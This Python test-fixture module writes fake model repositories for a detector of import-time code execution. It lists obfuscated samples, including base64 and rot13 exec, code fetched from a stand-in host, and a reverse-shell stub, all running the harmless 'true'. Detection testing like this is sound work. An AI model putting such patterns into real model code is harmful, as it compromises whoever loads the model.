"""Model repositories: ordinary ones, and ones whose files lead a loader astray."""

import json
from pathlib import Path
from typing import Any

MODEL = """
import torch
from torch import nn
from transformers import PreTrainedModel, PretrainedConfig
from .layers import Block

class TinyConfig(PretrainedConfig):
    model_type = "tiny"

class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.block = Block(config.hidden_size)

    def forward(self, x):
        return self.block(x)
"""
LAYERS = """
import math
from torch import nn

class Block(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.scale = math.sqrt(width)
        self.linear = nn.Linear(width, width)
"""
HOSTILE = "import os\nos.system('true')\nclass TinyModel: pass\n"
"""Starts a process while it is imported; the process does nothing."""

IMPORT_TIME = {
    "plain": "import os\nos.system('true')",
    "alias": "from os import system as s\ns('true')",
    "star": "from subprocess import *\ncheck_output(['true'])",
    "pieces": "import os as o\ngetattr(o, 'sys' + 'tem')('true')",
    "hidden module": "__import__('o' + 's').system('true')",
    "importlib": "import importlib\nimportlib.import_module('os').popen('true')",
    "vars": "import os\nvars(os)['system']('true')",
    "modules": "import sys\nsys.modules['os'].system('true')",
    "function called": "def f():\n    import os\n    os.system('true')\nf()",
    "class made": (
        "class A:\n    def __init__(self):\n        import os\n"
        "        os.system('true')\nA()"
    ),
    "class body": "class A:\n    x = __import__('os').popen('true')",
    "default": "def f(x=__import__('os').system('true')): pass",
    "decorator": "import os\n@os.system\nclass A: pass",
    "thread": "import threading, os\nthreading.Thread(target=os.system).start()",
    "partial": "import functools, os\nfunctools.partial(os.system, 'true')()",
    "lambda": "(lambda: __import__('os').system('true'))()",
    "computed": "import os\ngetattr(os, input())('true')",
    "base64": (
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgndHJ1ZScp'))"
    ),
    "codes": "exec(''.join(map(chr, [112, 97, 115, 115])))",
    "compiled": "eval(compile('import os;os.system(1)', '', 'exec'))",
    "downloaded": "import urllib.request as r\nexec(r.urlopen('http://a.invalid').read())",
    "marshalled": "import marshal\nexec(marshal.loads(b'c'))",
    "rot13": "import codecs\nexec(codecs.decode('vzcbeg bf;bf.flfgrz(1)', 'rot13'))",
    "reverse shell": (
        "import socket, subprocess\ns = socket.socket()\nsubprocess.call(['/bin/sh'])"
    ),
}
QUIET = {
    "model": MODEL,
    "layers": LAYERS,
    "main guard": (
        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['true'])"
    ),
    "attribute of a class": "class A:\n    def eval(self): pass\nA().eval()",
    "optional import": (
        "import importlib.util\nif importlib.util.find_spec('flash_attn'):\n"
        "    import flash_attn"
    ),
    "environment": "import os\nTOKEN = os.environ.get('HF_TOKEN')",
    "torch compile": "import torch\nf = torch.compile(lambda x: x)\nm = model.eval()",
    "regular expression": "import re\nP = re.compile('a+')",
}


def put(folder: Path, **files: Any) -> None:
    """Write files: text as it is, anything else as JSON; `__` in a name is a dot."""
    for name, content in files.items():
        path = folder / name.replace("__", ".").replace("--", "/")
        path.parent.mkdir(parents=True, exist_ok=True)
        text = content if isinstance(content, str) else json.dumps(content)
        path.write_text(text, encoding="utf-8")


def ordinary(folder: Path) -> None:
    """Write a repository as `save_pretrained` leaves it."""
    put(
        folder,
        config__json={
            "architectures": ["LlamaForCausalLM"],
            "model_type": "llama",
            "bos_token_id": 1,
            "eos_token_id": 2,
            "torch_dtype": "bfloat16",
        },
        generation_config__json={"bos_token_id": 1, "eos_token_id": 2},
        tokenizer_config__json={"tokenizer_class": "LlamaTokenizer"},
        modules__json=[
            {"idx": 0, "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "path": "1_P", "type": "sentence_transformers.models.Pooling"},
        ],
        README__md="---\nlicense: apache-2.0\n---\n# A model\n",
    )


def with_code(folder: Path, model: str = MODEL, layers: str = LAYERS) -> None:
    """Write a repository whose `auto_map` asks for its own code."""
    put(
        folder,
        config__json={"auto_map": {"AutoModel": "modeling_tiny.TinyModel"}},
        modeling_tiny__py=model,
        layers__py=layers,
    )
